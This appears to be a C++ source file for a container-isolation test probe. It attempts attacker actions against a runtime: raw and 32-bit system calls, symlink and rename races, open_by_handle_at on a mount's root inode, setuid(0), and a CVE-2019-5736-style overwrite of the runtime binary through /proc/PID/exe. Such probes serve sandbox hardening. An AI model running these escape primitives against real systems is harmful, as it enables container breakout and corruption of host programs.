// SPDX-License-Identifier: Apache-2.0
// What an attacker does that a shell cannot: raw system calls by every entry of the kernel, fast swaps of
// paths, writing to the programs of others. Static, so that it runs in any image.
//
//   probe sys NUMBER [ARGUMENT…]     by the native entry; "ok RESULT" or the error's name. @text, numbers
//   probe sys32 NUMBER [ARGUMENT…]   by int 0x80
//   probe swap A B SECONDS           exchanges two names as fast as it can
//   probe plant A TARGET SECONDS     makes A a link to TARGET as often as somebody takes it away
//   probe scribble SECONDS           tries to write to the program of every process that it sees
//   probe handle PATH                opens inode 2 of PATH's file system by handle
//   probe connect NAME               to an abstract unix socket
//   probe listen NAME                at one, until it is killed
//   probe socket PATH                makes a unix socket there
//   probe raise                      setuid(0)
#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

using Clock = std::chrono::steady_clock;

Clock::time_point deadline(const char* seconds) {
  return Clock::now() + std::chrono::milliseconds(static_cast<long>(std::atof(seconds) * 1000));
}

int tell(long result) {
  if (result < 0)
    std::printf("%s\n", strerrorname_np(errno));
  else
    std::printf("ok %ld\n", result);
  return 0;
}

long argument(const char* word) {
  return word[0] == '@' ? reinterpret_cast<long>(word + 1)
                        : static_cast<long>(std::strtoull(word, nullptr, 0));
}

int call(int argc, char** argv) {
  long a[7] = {};
  for (int i = 0; i < argc && i < 7; ++i) a[i] = argument(argv[i]);
  long result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
  return tell(result);
}

// The 32-bit entry takes 32-bit registers: only numbers make sense as arguments.
int call_32(int argc, char** argv) {
  int a[6] = {};
  for (int i = 0; i < argc && i < 6; ++i) a[i] = static_cast<int>(argument(argv[i]));
  int result = -ENOSYS;
#if defined(__x86_64__)
  asm volatile("int $0x80"
               : "=a"(result)
               : "a"(a[0]), "b"(a[1]), "c"(a[2]), "d"(a[3]), "S"(a[4]), "D"(a[5])
               : "memory", "r8", "r9", "r10", "r11");
#endif
  errno = result < 0 ? -result : 0;
  return tell(result);
}

int swap(const char* one, const char* other, const char* seconds) {
  long count = 0;
  for (auto end = deadline(seconds); Clock::now() < end; ++count)
    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) return tell(-1);
  return tell(count);
}

int plant(const char* link, const char* target, const char* seconds) {
  long count = 0;
  for (auto end = deadline(seconds); Clock::now() < end;)
    if (symlink(target, link) == 0) ++count;
  return tell(count);
}

// Every pid's program, by the link and by an fd opened before the program ends (CVE-2019-5736).
int scribble(const char* seconds) {
  long opened = 0;
  for (auto end = deadline(seconds); Clock::now() < end;)
    for (int pid = 1; pid < 400; ++pid) {
      if (pid == getpid()) continue;
      std::string link = "/proc/" + std::to_string(pid) + "/exe";
      char target[256] = {};
      if (readlink(link.c_str(), target, sizeof target - 1) < 0 || std::strstr(target, "podsd") == nullptr)
        continue;
      int held = open(link.c_str(), O_PATH | O_CLOEXEC);
      if (held < 0) continue;
      std::string again = "/proc/self/fd/" + std::to_string(held);
      for (int attempt = 0; attempt < 100000; ++attempt) {
        int fd = open(again.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        ++opened;
        ssize_t written = write(fd, "#!/attacker\n", 12);
        std::printf("wrote %zd to %s\n", written, target);
        close(fd);
        break;
      }
      close(held);
    }
  return tell(opened);
}

int by_handle(const char* path) {
  int mount = open(path, O_RDONLY | O_DIRECTORY);
  struct {
    file_handle header;
    unsigned int id[2];
  } root = {{8, 1, {}}, {2, 0}};
  if (mount < 0) return tell(-1);
  int fd = open_by_handle_at(mount, &root.header, O_RDONLY);
  return tell(fd);
}

socklen_t abstract_name(const char* name, sockaddr_un& address) {
  address = {};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  return static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(name));
}

int connect_abstract(const char* name) {
  sockaddr_un address;
  socklen_t size = abstract_name(name, address);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  return tell(connect(fd, reinterpret_cast<sockaddr*>(&address), size));
}

int listen_abstract(const char* name) {
  sockaddr_un address;
  socklen_t size = abstract_name(name, address);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(fd, reinterpret_cast<sockaddr*>(&address), size) < 0 || listen(fd, 1) < 0) return tell(-1);
  for (;;) pause();
}

int make_socket(const char* path) {
  sockaddr_un address = {};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  return tell(bind(socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&address), sizeof address));
}

int usage() {
  std::fputs(
      "usage: probe sys|sys32 NUMBER [ARGUMENT…] | swap A B SECONDS | plant A TARGET SECONDS |\n"
      "       scribble SECONDS | handle PATH | connect NAME | listen NAME | socket PATH | raise\n",
      stderr);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  std::string what = argc > 1 ? argv[1] : "";
  if (what == "sys" && argc > 2) return call(argc - 2, argv + 2);
  if (what == "sys32" && argc > 2) return call_32(argc - 2, argv + 2);
  if (what == "swap" && argc == 5) return swap(argv[2], argv[3], argv[4]);
  if (what == "plant" && argc == 5) return plant(argv[2], argv[3], argv[4]);
  if (what == "socket" && argc == 3) return make_socket(argv[2]);
  if (what == "scribble" && argc == 3) return scribble(argv[2]);
  if (what == "handle" && argc == 3) return by_handle(argv[2]);
  if (what == "connect" && argc == 3) return connect_abstract(argv[2]);
  if (what == "listen" && argc == 3) return listen_abstract(argv[2]);
  if (what == "raise") return tell(setuid(0));
  return usage();
}
